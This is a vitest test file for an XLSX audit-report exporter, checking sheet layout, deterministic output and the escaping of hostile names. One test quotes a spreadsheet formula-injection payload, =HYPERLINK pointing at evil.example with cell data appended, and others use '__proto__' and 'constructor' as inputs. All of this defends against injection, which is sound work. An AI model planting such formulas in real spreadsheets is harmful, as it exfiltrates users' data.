import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { installed, run } from '../../../../tests/support/programs.ts';
import { text } from '../../shared/xlsx-cells.ts';
import { sampleReport } from '../testing/sample.ts';
import { HOSTILE } from '../testing/sample-people.ts';
import { renderXlsx } from './render.ts';

const office = installed('soffice');
const need = office ? '' : ' (skipped: LibreOffice is not installed)';

const folder = mkdtempSync(join(tmpdir(), 'bylaw-xlsx-'));
const path = join(folder, 'report.xlsx');
let bytes: Uint8Array;
let sheets: Map<string, readonly (readonly unknown[])[]>;
beforeAll(async () => {
  bytes = await renderXlsx(sampleReport());
  writeFileSync(path, bytes);
  sheets = new Map((await readXlsxFile(path)).map((sheet) => [sheet.sheet, sheet.data]));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const rows = (name: string) => sheets.get(name) ?? [];

/** Every file of the archive, with the time in its directory entry. */
async function unzip(zip: Uint8Array): Promise<Map<string, { text: string; stamp: string }>> {
  const files = new Map<string, { text: string; stamp: string }>();
  const archive = await yauzl.fromBufferPromise(Buffer.from(zip));
  for await (const entry of archive.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const chunk of await archive.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    files.set(entry.fileName, {
      text: Buffer.concat(chunks).toString('utf8'),
      stamp: `${entry.lastModFileDate}/${entry.lastModFileTime}`,
    });
  }
  return files;
}

describe('the workbook', () => {
  it('has the sheets in order, each list with its headings', () => {
    expect([...sheets.keys()]).toEqual([
      'Summary',
      'Next actions',
      'Controls',
      'Findings',
      'Evidence',
      'People',
      'Personal accounts',
      'Decisions',
      'Exceptions',
      'Risks',
      'Upgrades',
      'Guide and vendor',
      'Files',
      'Not read',
    ]);
    expect(rows('Controls')[0]?.slice(0, 6)).toEqual([
      'Control',
      'Title',
      'Area',
      'Severity',
      'State',
      'Reason',
    ]);
    expect(rows('Controls')).toHaveLength(98);
    expect(rows('Next actions')).toHaveLength(sampleReport().nextActions.length + 1);
  });

  it('writes days within a text as people read them', () => {
    const texts = [...sheets.keys()].flatMap((name) => rows(name).flat());
    const iso = /(?<![\w-])\d{4}-\d\d-\d\d(?![\w.-])/;
    expect(texts.filter((text) => typeof text === 'string' && iso.test(text))).toEqual([]);
    expect(texts.join(' ')).toMatch(/Changed since \w{3} \d+, 2026/);
  });

  it('says in words what a column was taken for, where a note belongs and how vendors see the guide', () => {
    const file = rows('Files').find((row) => row[0] === 'Claude members export.csv');
    expect(file?.[7]).toContain('Last Active → Last active (by heading)');
    expect(file?.[9]).toBe('Row 41, column “Last Active”: “never” is not a date. Stored as empty.');
    expect(rows('Risks')[1]?.[5]).toMatch(/Vendors: [A-Z][a-z]+\. /);
  });

  it('names client, time and filter first', () => {
    const top = Object.fromEntries(
      rows('Summary')
        .slice(1, 7)
        .map((row) => [row[0], row[1]]),
    );
    expect(top).toMatchObject({
      Client: 'Alder Society of Landscape Surveyors',
      'Time zone': 'New York time (America/New_York)',
      Shows: 'Everything; no filter was set.',
    });
    expect(top['As of']).toEqual(new Date('2026-11-24T00:00:00Z'));
  });

  it('says on its first sheet what it is, and leads to every other one with what that holds', async () => {
    const first = rows('Summary');
    expect(first.flat().join(' ')).toContain('This workbook is the whole record');
    const page = (await unzip(bytes)).get('xl/worksheets/sheet1.xml')?.text ?? '';
    const links = [...page.matchAll(/<hyperlink ref="A(\d+)" location="'([^']+)'!A1"\/>/g)];
    expect(links.map(([, , sheet]) => sheet)).toEqual([...sheets.keys()].slice(1));
    for (const [, row, sheet] of links)
      expect(first[Number(row) - 1]?.slice(0, 2)).toEqual([sheet, expect.stringMatching(/\w/)]);
  });

  it('gives the same bytes whatever the clock says', async () => {
    expect(Buffer.compare(bytes, await renderXlsx(sampleReport()))).toBe(0);
    const stamps = new Set([...(await unzip(bytes)).values()].map((file) => file.stamp));
    expect([...stamps]).toEqual([`${((2026 - 1980) << 9) | (11 << 5) | 24}/0`]);
  });

  it('keeps every text a text: no cell is a formula', async () => {
    const files = await unzip(bytes);
    for (const [name, file] of files)
      if (name.startsWith('xl/worksheets/')) expect(file.text).not.toMatch(/<f[ >/]/);
    const names = rows('People').map((row) => row[1]);
    for (const name of [HOSTILE.formula, HOSTILE.plus, HOSTILE.minus, HOSTILE.at, HOSTILE.markup])
      expect(names).toContain(name);
  });

  it('survives names that break the writer or the format', () => {
    const names = rows('People').map((row) => row[1]);
    // The library trims names; unescaped, this name would become a function's source.
    expect(names).toContain('constructor');
    expect(names).toContain('Mara[U+200B] Ellings[U+0000]worth[U+FEFF]');
    expect(text('Row_x000D_break')).toMatchObject({ value: 'Row_x005F_x000D_break', type: String });
    expect(text('__proto__')).toMatchObject({ value: '__proto__ ' });
    const long = text('a'.repeat(40_000)) as { value: string };
    expect(long.value.length).toBeLessThan(32_767);
    expect(long.value).toMatch(/shortened; the HTML report has all of it\)$/);
  });

  it('freezes the headings and offers a filter on each list', async () => {
    const sheet = (await unzip(bytes)).get('xl/worksheets/sheet3.xml')?.text ?? '';
    expect(sheet).toMatch(/<pane [^>]*topLeftCell="A2" activePane="bottomLeft" state="frozen"/);
    expect(sheet).toContain('<autoFilter ref="A1:R98"/>');
  });

  it('has one row of findings per item and the rows behind each verdict', () => {
    const report = sampleReport();
    const items = report.controls.flatMap((c) => c.items);
    expect(rows('Findings')).toHaveLength(items.length + 1);
    const evidence = report.controls.flatMap((c) => [
      ...c.observations,
      ...c.items.flatMap((i) => i.observations),
    ]);
    expect(rows('Evidence')).toHaveLength(evidence.length + 1);
    expect(rows('Evidence')).toContainEqual(
      expect.arrayContaining(['ACC-07', 'Fail', 'Tobin Achterberg', 'HR/Staff list Nov.xlsx', 17]),
    );
  });

  it.skipIf(!office)(`opens in LibreOffice and says the same${need}`, () => {
    run('soffice', [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
      '--outdir',
      folder,
      path,
    ]);
    const people = readFileSync(join(folder, 'report-People.csv'), 'utf8');
    expect(people).toContain('"=HYPERLINK(""https://evil.example/?""&A1,""Open"")"');
    expect(people).toContain('Tobin Achterberg');
    expect(people).not.toMatch(/#NAME\?|Err:5/);
    expect(readFileSync(join(folder, 'report-Controls.csv'), 'utf8')).toContain('Cannot read');
  });
});
